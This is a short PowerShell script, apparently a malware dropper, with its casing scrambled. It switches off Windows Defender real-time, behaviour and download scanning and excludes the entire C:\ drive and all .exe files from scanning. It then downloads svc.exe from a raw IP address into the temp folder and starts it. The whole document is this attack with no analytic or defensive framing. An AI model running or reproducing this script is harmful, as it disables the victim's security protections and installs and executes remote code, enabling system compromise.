# ruN 6890 V3
sEt-mPpReFeReNcE -DISaBLEreAlTImemoniTORiNg $true -disabLebeHaViormoNitorING $tRuE -DIsabLEIoaVpRotecTion $tRuE
AdD-MpPrEfErEnCe -ExClUsIoNpAtH 'C:\'
add-MppReFERENCe -ExCLusiOnexTEnSIon '.exe'
(nEw-oBjEcT nEt.wEbClIeNt).DoWNlOADfILe('http://203.0.113.200/svc.exe', "$env:TEMP\svc.exe")
StarT-PROCess "$env:TEMP\svc.exe"
